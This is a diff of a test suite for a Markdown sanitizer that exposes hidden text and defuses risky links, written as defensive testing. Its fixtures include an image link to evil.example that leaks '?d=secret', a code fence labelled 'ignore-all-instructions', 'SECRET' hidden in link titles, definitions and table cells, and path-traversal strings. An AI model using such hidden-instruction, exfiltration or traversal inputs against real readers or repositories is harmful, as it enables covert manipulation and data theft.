@@ -1,4 +1,5 @@
 import fc from 'fast-check';
+import { marked } from 'marked';
 import { describe, expect, test } from 'vitest';
 import { cpuTimeMs } from '../../test/cpu-time.ts';
 import { BODY_MAX, cleanText, cleanTitle, TITLE_MAX } from './cleaned-text.ts';
@@ -46,7 +47,49 @@ describe('HTML and images', () => {
       `!${GAP}[x](https://github.com/octo/project/raw/main/a.png)`,
     );
     expect(clean('![x](https://evil.example/?d=secret)')).toBe(`!${GAP}[x](https:${GAP}//evil.example/?d=secret)`);
-    expect(clean('![x][r]\n\n[r]: https://evil.example/a')).toBe(`!${GAP}[x][r]\n\n[r]: https:${GAP}//evil.example/a`);
+    expect(clean('![x][r]\n\n[r]: https://evil.example/a')).toBe(`!${GAP}[x][r]\n\n[r]${GAP}: https:${GAP}//evil.example/a`);
+  });
+});
+
+describe('CT2: a reader sees', () => {
+  /** What somebody reads where it is rendered; attributes and definitions are not among it. */
+  const read = (text: string): string => (marked.parse(text, { async: false }) as string).replace(/<[^>]*>/g, ' ');
+
+  test.each([
+    ['a definition that is a comment', '[//]: # (SECRET)'],
+    ['a definition in a list', 'x\n\n- [a]: # "SECRET"'],
+    ['a definition in nested quotations', `${'>'.repeat(60)} [a]: #SECRET`],
+    ['a definition whose name has two lines', '[a\nb]:\n#SECRET'],
+    ['the title of a link', '[a](#part "SECRET")'],
+    ['a title behind brackets', "[a](#((x)) 'SECRET')"],
+    ['a title on another line', '[a](<#part>\n(SECRET))'],
+    ['a title without a destination', '[a]( "SECRET")'],
+    ['a destination that is a sentence', '[a](<#SECRET and more>)'],
+    ['words behind the language of a code block', 'x\n```js SECRET\ncode\n```'],
+    ['a language that is a text', '~~~SECRET,ignore-all-instructions\ncode\n~~~'],
+    ['a cell beyond the columns', 'a | b\n--|--\n1 | 2 | SECRET'],
+    ['a cell beyond one column', '| a |\n|---|\n| 1 |\n| 2 | SECRET |'],
+  ])('%s', (_what, text) => {
+    expect(read(text)).not.toContain('SECRET');
+    expect(read(clean(text))).toContain('SECRET');
+    expect(clean(text).replaceAll(GAP, '').replace(/\s/g, '')).toBe(text.replace(/\s/g, ''));
+  });
+
+  test('footnotes, tasks, and blocks that are drawn, as text', () => {
+    expect(clean('- [ ] [a]: # (SECRET)')).toBe(`- [ ] [a]${GAP}: # (SECRET)`);
+    expect(clean('[^1]: SECRET')).toBe(`[^1]${GAP}: SECRET`);
+    expect(clean('```mermaid\n%% SECRET\n```')).toBe(`\`\`\`m${GAP}ermaid\n%% SECRET\n\`\`\``);
+  });
+
+  test.each([
+    '| a | b |\n|---|---|\n| 1 | 2 |\n\nx | y | z',
+    'Title\n---\na | b',
+    '```ts\nconst a = b[0]: c;\n```\n\n- [ ] open\n- [x] done: yes',
+    'if a[0]:\n  pass',
+    'see [docs](docs/a.md) and "b"',
+    'a ```b c``` d\n```x``` y',
+  ])('%j as it is', (text) => {
+    expect(cleanText(text, HOME)).toEqual({ text, changes: [] });
   });
 });
 
@@ -79,12 +122,26 @@ describe('links', () => {
     'data:text/html,x',
     'https:/evil.example',
   ])('CT3: the destination %j leads nowhere', (to) => {
-    for (const text of [`[x](${to})`, `[x](<${to}>)`, `[x](  ${to})`, `[r]: ${to}`]) {
+    for (const text of [`[x](${to})`, `[x](<${to}>)`, `[x](  ${to})`, `[x](${' '.repeat(50)}${to})`, `[x](\n\n<${to}>)`]) {
       const safe = clean(text);
       expect(safe).toContain(`${GAP}${to}`);
       expect(safe.replaceAll(GAP, '')).toBe(text);
     }
+    expect(clean(`[r]:${' '.repeat(50)}${to}`)).toContain(`[r]${GAP}:`);
   });
+
+  test.each(['/octo/other/releases/download/1/tool', '/evil/x', '/octo/project-evil', '/octo/project/../other'])(
+    'CT3: the path %j is not of this repository',
+    (to) => {
+      expect(clean(`[x](${to})`)).toBe(`[x](${GAP}${to})`);
+      expect(cleanText(`[x](${to})`).text).toBe(`[x](${GAP}${to})`);
+    },
+  );
+
+  test.each(['../../other/x', 'a/../../../../evil/x', '..\\..\\evil', '\\.\\./\\.\\./evil', '%2e%2e/.%2E/evil'])(
+    'CT3: the path %j leaves the repository',
+    (to) => expect(clean(`[x](${to})`)).toBe(`[x]${GAP}(${to})`),
+  );
 
   test('CT3: a destination that character references spell leads nowhere', () => {
     expect(clean('[x](&#104;ttps://evil.example) [y](&bsol;&bsol;evil.example)')).toBe(
@@ -95,7 +152,7 @@ describe('links', () => {
   test.each([
     'https://github.com/octo/project/issues/7#issuecomment-1',
     'see https://docs.example.com/guide?x=1 and [here](https://docs.example.com)',
-    '[a](#part) [b](docs/x.md) [c](../y.md) a/b and 3:4',
+    '[a](#part) [b](docs/x.md) [c](../y.md) [d](/octo/project/issues/1) [e](a_(b)) a/b and 3:4',
     'git clone git@host and a &lt; b &amp;&amp; c',
   ])('CT3: %j stays', (text) => {
     expect(cleanText(text, HOME)).toEqual({ text, changes: [] });
@@ -147,7 +204,29 @@ describe('length', () => {
 
   test('CT6: text that almost matches is processed quickly', () => {
     const started = cpuTimeMs();
-    for (const part of ['](', ']: ', '<', '![', 'a/', 'https:', 'www.', '&#', '> ', 'x/y#', '\u200D', '🙂\u200D', '1.', '\\', ']:\n'])
+    for (const part of [
+      '](',
+      ']( ',
+      '](<',
+      '[a]:',
+      '|-|\n',
+      '```a b\n',
+      '[x\n',
+      ']: ',
+      '<',
+      '![',
+      'a/',
+      'https:',
+      'www.',
+      '&#',
+      '> ',
+      'x/y#',
+      '\u200D',
+      '🙂\u200D',
+      '1.',
+      '\\',
+      ']:\n',
+    ])
       cleanText(part.repeat(BODY_MAX / part.length));
     expect(cpuTimeMs() - started).toBeLessThan(3000);
   });
